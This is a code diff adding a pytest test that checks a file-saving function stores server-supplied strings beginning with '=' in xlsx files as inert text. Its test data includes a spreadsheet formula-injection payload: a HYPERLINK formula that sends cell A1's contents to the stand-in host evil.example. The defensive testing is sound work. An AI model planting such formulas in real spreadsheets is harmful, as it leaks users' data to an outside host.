@@ -394,3 +394,15 @@ def test_explosive_joins_refused(data_dir: Path) -> None:
     with pytest.raises(JobError, match="about 64,000,000 rows"):
         files.join({"operation": "inner_join", "file_paths": ["l.csv", "r.parquet"], "key_columns": ["k"]}, ctx)
     assert not (data_dir / "l_joined.csv").exists()
+
+
+def test_save_file_xlsx_keeps_server_text_inert(data_dir: Path, ctx: JobContext) -> None:
+    """A string starting with '=' from the server is stored as text, never as a live Excel formula."""
+    import openpyxl
+
+    target = data_dir / "from_bot.xlsx"
+    records = [{"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "n": 1}, {"name": "plain", "n": 2}]
+    assert files.save_file({"file_path": str(target), "dataframe": records}, ctx)["rows"] == 2
+    sheet = openpyxl.load_workbook(target).active
+    cells = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
+    assert cells[records[0]["name"]] == "s" and cells["plain"] == "s" and cells[1] == "n"
